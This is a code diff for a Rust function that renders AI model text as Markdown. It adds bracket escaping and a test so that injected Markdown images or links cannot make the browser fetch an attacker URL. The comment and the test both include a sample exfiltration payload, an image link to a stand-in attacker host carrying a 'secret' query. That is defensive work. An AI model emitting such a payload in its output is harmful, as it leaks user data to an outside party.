@@ -219,10 +219,15 @@ fn fallback_interpretation(summary: &str) -> String {
     "Analysis completed successfully. The results are shown above.".into()
 }
 
-/// Markdown for model text: HTML escaped, and `$` escaped so frontends that typeset TeX
-/// (JupyterLab) show "$252.80" as money, not as the start of a formula.
+/// Markdown for model text: HTML escaped; `$` escaped so frontends that typeset TeX
+/// (JupyterLab) show "$252.80" as money, not as the start of a formula; and brackets escaped
+/// so an injected `![](https://attacker/?q=...)` cannot become an image the browser fetches
+/// (or a link) — model text is shown as text.
 pub fn model_markdown(text: &str) -> String {
-    escape_html(text).replace('$', "\\\\$")
+    escape_html(text)
+        .replace('$', "\\\\$")
+        .replace('[', "\\[")
+        .replace(']', "\\]")
 }
 
 fn show_interpretation(sink: &OutputSink, text: &str, display_id: &str, first: bool) {
@@ -601,6 +606,13 @@ mod tests {
             model_markdown("from $5 to $7 <b>"),
             r"from \\$5 to \\$7 &lt;b&gt;"
         );
+    }
+
+    #[test]
+    fn markdown_images_and_links_from_the_model_stay_text() {
+        let md = model_markdown("see ![x](https://attacker.example/?q=secret) and [y](z)");
+        assert!(!md.contains("]("), "{md}");
+        assert!(md.contains(r"!\[x\](https://attacker.example/?q=secret)"));
     }
 
     #[test]
